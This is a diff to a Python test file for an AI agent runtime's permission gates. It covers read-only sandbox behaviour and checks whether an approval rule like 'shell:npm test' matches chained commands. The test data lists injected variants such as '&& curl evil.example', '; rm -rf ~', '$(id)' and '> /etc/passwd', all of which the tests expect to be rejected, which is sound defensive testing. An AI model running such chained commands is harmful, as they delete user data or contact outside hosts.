@@ -16,6 +16,7 @@ from services.agentruntime.gates import (
     Gate,
     confines_paths,
     decide,
+    rule_covers,
 )
 
 effects = st.sampled_from(list(Effect))
@@ -31,13 +32,21 @@ def test_reads_and_conversation_only_calls_always_run(
         assert decide(effect, sandbox, approvals, granted=granted).gate is Gate.ALLOW
 
 
-@given(st.sampled_from([Effect.WRITE, Effect.COMMAND]), policies, st.booleans())
-def test_read_only_refuses_changes_and_commands_without_asking_whatever_was_granted(
-    effect: Effect, approvals: str, granted: bool
+@given(policies, st.booleans())
+def test_read_only_refuses_file_changes_without_asking_whatever_was_granted(
+    approvals: str, granted: bool
 ) -> None:
-    decision = decide(effect, READ_ONLY, approvals, granted=granted)
+    decision = decide(Effect.WRITE, READ_ONLY, approvals, granted=granted)
     assert decision.gate is Gate.REFUSE
     assert "read-only" in decision.reason and "/sandbox" in decision.reason
+
+
+@given(policies)
+def test_read_only_runs_commands_as_the_policy_says_they_are_confined_read_only(
+    approvals: str,
+) -> None:
+    asked = decide(Effect.COMMAND, READ_ONLY, approvals, granted=False).gate
+    assert asked is (Gate.ALLOW if approvals == NEVER else Gate.ASK)
 
 
 @given(effects, st.sampled_from([s for s in SANDBOXES if s != READ_ONLY]), policies)
@@ -70,3 +79,28 @@ def test_a_grant_never_makes_a_call_less_allowed(
 
 def test_only_the_full_sandbox_lets_file_tools_out() -> None:
     assert [confines_paths(s) for s in SANDBOXES] == [s != FULL for s in SANDBOXES]
+
+
+def test_a_command_rule_covers_the_command_and_plain_arguments_only() -> None:
+    rule = "shell:npm test"
+    assert rule_covers(rule, "shell:npm test")
+    assert rule_covers(rule, "shell:npm test -- -k parser")
+    for other in (
+        "shell:npm tests",
+        "shell:npm test && curl evil.example",
+        "shell:npm test; rm -rf ~",
+        "shell:npm test | tee out",
+        "shell:npm test $(id)",
+        "shell:npm test `id`",
+        "shell:npm test > /etc/passwd",
+        "shell:npm test\nrm -rf ~",
+        "shell:npx test",
+        "edit",
+    ):
+        assert not rule_covers(rule, other), other
+
+
+def test_a_tool_rule_covers_that_tool_only() -> None:
+    assert rule_covers("edit", "edit")
+    assert not rule_covers("edit", "shell:edit")
+    assert not rule_covers("shell:", "shell:ls")
